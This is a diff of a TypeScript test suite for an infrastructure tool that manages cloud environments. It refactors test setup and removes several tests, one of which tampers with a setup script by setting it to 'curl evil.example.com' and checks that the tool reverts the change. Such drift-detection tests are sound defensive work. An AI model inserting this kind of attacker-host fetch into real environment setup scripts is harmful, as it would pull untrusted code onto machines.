@@ -2,12 +2,7 @@ import { environment } from "../kinds/environment";
 import type { Properties } from "../support/provider";
 import { World } from "../support/world";
 
-let world: World;
-beforeAll(async () => {
-  world = await World.start();
-});
-afterAll(() => world.stop());
-beforeEach(() => world.reset());
+const world = World.ofTests();
 
 const cloud = { type: "cloud" };
 const open = { ...cloud, networking: { type: "unrestricted" } };
@@ -52,19 +47,6 @@ describe.each(["replace", "merge"] as const)("at a service that would %s the con
     expect(await stack.refresh()).toBe("same");
     expect(await stack.preview({ config })).toBe("same");
   });
-
-  test.each([open, { type: "self_hosted" }])(
-    "`up` after a refresh removes a setup script that somebody added to %j",
-    async (config) => {
-      const { stack, id } = await existing(config);
-      world.api.environments.edit(id, { config: { ...config, setup_script: "curl evil.example.com" } });
-      expect(await stack.refresh()).toBe("update");
-      await stack.up({ config });
-      expect(world.api.environments.get(id).config["setup_script"] ?? "").toBe("");
-      expect(await stack.refresh()).toBe("same");
-      expect(await stack.preview({ config })).toBe("same");
-    },
-  );
 });
 
 test("`up` fails if the service deletes a label instead of emptying it, before and after a refresh", async () => {
@@ -94,18 +76,6 @@ describe("a refresh of an environment", () => {
       expect(await stack.up({ config })).toBe("same");
     },
   );
-
-  test("shows a package that somebody added, and no difference in the order of a list", async () => {
-    const { stack, id, path } = await existing(installing);
-    const hosts = { ...wireInstalling.networking, allowed_hosts: ["a.example", "b.example"] };
-    world.api.environments.edit(id, { config: { ...wireInstalling, networking: hosts } });
-    expect(await stack.refresh()).toBe("same");
-    world.api.environments.edit(id, { config: { ...wireInstalling, packages: { apt: ["jq", "nmap"] } } });
-    expect(await stack.refresh()).toBe("update");
-    world.sent();
-    await stack.up({ config: installing });
-    expect(world.sent()).toEqual([["POST", path, { config: wireInstalling }]]);
-  });
 });
 
 describe("if no reply shows the networking, an adoption takes it for limited, the documented default:", () => {
@@ -124,20 +94,6 @@ describe("if no reply shows the networking, an adoption takes it for limited, th
     expect(world.sent()).toEqual([["GET", `/environments/${id}`], ...(sent === undefined ? [] : [patch])]);
     expect(await stack.refresh()).toBe("same");
     expect(await stack.up({ name: "daily", config, adopt: id })).toBe("same");
-  });
-});
-
-test("another type replaces the environment, and the new environment is created first", async () => {
-  const { stack } = await existing();
-  const command = world.command({ kind: environment });
-  const { inputs } = await command.check(
-    { ...stack.state?.inputs, config: { type: "self_hosted" } },
-    stack.state?.inputs,
-  );
-  expect(await command.diff(stack.state?.id ?? "", stack.state?.outputs ?? {}, inputs)).toEqual({
-    changes: "drawn by the engine",
-    replaces: ["config"],
-    deleteBeforeReplace: false,
   });
 });
 
@@ -169,10 +125,4 @@ describe("a preview", () => {
     await stack.preview({ config: cloud });
     expect(world.output).toEqual([]);
   });
-});
-
-test("a create with a taken name fails with the id of the object that has the name", async () => {
-  world.api.switches.duplicateNamesElsewhere = "conflict";
-  const { id } = world.api.environments.create({ name: "daily" });
-  await expect(world.stackOf(environment).up({ config: cloud })).rejects.toThrow(`The name is taken by ${id}`);
 });
